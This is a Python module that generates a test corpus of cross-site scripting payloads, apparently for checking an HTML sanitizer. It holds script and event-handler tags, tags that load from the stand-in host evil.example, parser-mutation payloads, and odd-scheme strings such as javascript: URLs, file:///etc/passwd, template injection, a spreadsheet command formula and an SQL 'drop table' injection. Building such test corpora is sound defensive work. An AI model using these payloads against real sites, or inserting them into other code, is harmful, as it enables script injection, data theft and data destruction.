"""Texts that would run, ask or break out if a page took them for markup: own-written, by the classes that matter.

Every payload that could run calls ``alert`` or asks a host of the reserved name ``evil.example``, so a test
sees a dialog or a foreign request.
"""

from __future__ import annotations

from itertools import product

_RUN = "alert(1)"
_ASK = "//evil.example/x"
_TAGS = (
    "<script>{run}</script>", "<script src={ask}></script>", "<ScRiPt>{run}</sCrIpT>", "<script/x>{run}</script>",
    "<script\n>{run}</script\n>", "<img src=x onerror={run}>", "<img src=x onerror='{run}'>", "<img/src=x/onerror={run}>",
    "<img src={ask}>", "<img srcset='{ask} 1x'>", "<svg onload={run}>", "<svg/onload={run}>", "<svg><script>{run}</script>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><use href='{ask}#x'/></svg>",
    "<svg><image href='{ask}'/></svg>", "<math><mtext><script>{run}</script></math>", "<body onload={run}>",
    "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}>",
    "<details open ontoggle={run}>", "<video src=x onerror={run}>", "<video poster={ask}></video>",
    "<audio src={ask} autoplay></audio>", "<source src=x onerror={run}>", "<iframe src={ask}></iframe>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>", "<iframe src=javascript:{run}></iframe>",
    "<object data={ask}></object>", "<embed src={ask}>", "<link rel=stylesheet href={ask}>", "<base href={ask}>",
    "<meta http-equiv=refresh content='0;url={ask}'>", "<form action={ask}><button autofocus>x</button></form>",
    "<a href=javascript:{run}>x</a>", "<style>@import '{ask}';</style>", "<style>*{{background:url({ask})}}</style>",
    "<div style=background:url({ask})>x</div>", "<marquee onstart={run}>x</marquee>", "<table background={ask}><tr><td>x",
    "<p onmouseover={run} style=position:fixed;inset:0>x</p>", "<div contenteditable onfocus={run} autofocus tabindex=0>",
    "<img src=x:x onerror=\u0061lert(1)>", "<img src='x' onerror=&#97;lert(1)>", "<svg><set onbegin={run} attributeName=x>",
    "<video><source onerror={run}></video>", "<style onload={run}></style>", "<link rel=prefetch href={ask}>",
    "<link rel=preload as=script href={ask}>", "<script type=module>import '{ask}'</script>", "<track src={ask} default>",
    "<input type=image src={ask} onerror={run}>", "<frameset onload={run}><frame src={ask}></frameset>",
    "<object type=image/svg+xml data='data:image/svg+xml,<svg onload={run}>'></object>", "<q cite={ask}>x</q>",
    "<isindex type=image src={ask}>", "<keygen autofocus onfocus={run}>", "<template><script>{run}</script></template>",
)  # fmt: skip
_BREAKS = ("", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "]]>", "</svg>")
_MUTATES = (
    "<noscript><p title='</noscript><img src=x onerror={run}>'>", "<math><mi><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={run}&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror={run}>'>", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<xmp><img src='</xmp><img src=x onerror={run}>'>", "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={run}>'>",
    "<listing>&lt;img src=x onerror={run}&gt;</listing>", "<svg><style><img src='</style><img src=x onerror={run}>'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror={run}></style>", "<plaintext><script>{run}</script>",
)  # fmt: skip
_ODD = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "\x01javascript:{run}", "data:text/html,<script>{run}</script>",
    "vbscript:msgbox(1)", "file:///etc/passwd", "http:{ask}\"onmouseover={run} x=\"", "{{{{7*7}}}}{{% raw %}}<b>", "{{{{ var.value.secret }}}}",
    "${{{run}}}", "<%= {run} %>", "&lt;script&gt;{run}&lt;/script&gt;", "&#60;script&#62;{run}&#60;/script&#62;",
    "%3Cscript%3E{run}%3C/script%3E", "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\u2028<script>{run}</script>", "\u202e<script>{run}</script>", "<\u017fcript>{run}</\u017fcript>", "＜script＞{run}＜/script＞",
    "=cmd|' /C calc'!A0", "'; drop table articles; --", "<script>/*\n*/{run}//</script>", "<!--<script>{run}//-->",
)  # fmt: skip


def payloads() -> list[str]:
    """Give them all: every tag bare, the strongest behind every way of breaking out, mutations, odd schemes."""
    strongest = (_TAGS[0], _TAGS[5], _TAGS[10], _TAGS[26])
    shapes = [*_TAGS, *(a + b for a, b in product(_BREAKS[1:], strongest)), *_MUTATES, *_ODD]
    return [shape.format(run=_RUN, ask=_ASK) for shape in shapes]
